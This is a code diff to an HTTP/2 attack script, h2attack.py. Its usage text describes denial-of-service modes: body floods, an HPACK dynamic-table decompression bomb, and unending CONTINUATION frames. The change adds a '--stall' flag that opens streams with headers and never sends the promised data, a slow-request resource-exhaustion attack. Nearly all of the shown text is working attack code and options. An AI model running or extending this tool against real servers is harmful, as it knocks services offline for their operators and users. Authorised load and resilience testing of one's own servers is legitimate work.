@@ -3,8 +3,8 @@
 
 Usage: h2attack.py ATTACK HOST PORT [options]
   bodies        C connections x S streams, each declaring (or not: --no-length) SIZE bytes and
-                sending as fast as the server's windows allow, for --seconds; a finished stream is
-                replaced by a new one. Prints statuses, resets, bytes sent.
+                sending as fast as the server's windows allow (--stall: never), for --seconds; a
+                finished stream is replaced by a new one. Prints statuses, resets, bytes sent.
   hpack-bomb    one 4000-byte header in the HPACK dynamic table, then header blocks of one-byte
                 references to it (each decodes to ~4 KB) until the server closes.
   continuation  HEADERS without END_HEADERS, then CONTINUATION frames until the server closes.
@@ -363,7 +363,8 @@ def bodies(a):
                 open_stream(c)
             for sid, st in c.streams.items():
                 st[1] += c.win_upd.pop(sid, 0)
-                while st[0] > 0 and st[1] > 0 and c.conn_win > 0 and len(c.out) < (1 << 20):
+                while not a.stall and st[0] > 0 and st[1] > 0 and c.conn_win > 0 and \
+                        len(c.out) < (1 << 20):
                     n = min(len(chunk), st[0], st[1], c.conn_win)
                     st[0] -= n
                     st[1] -= n
@@ -407,6 +408,7 @@ def main():
     ap.add_argument("--max-streams", type=int, default=1 << 30)
     ap.add_argument("--size", type=int, default=4 * 1024 * 1024 - 4096)
     ap.add_argument("--no-length", action="store_true")
+    ap.add_argument("--stall", action="store_true")  # bodies: headers only, the data never comes
     ap.add_argument("--path", default="/healthz")
     ap.add_argument("--method", default="GET")
     ap.add_argument("--hold", type=float, default=0)
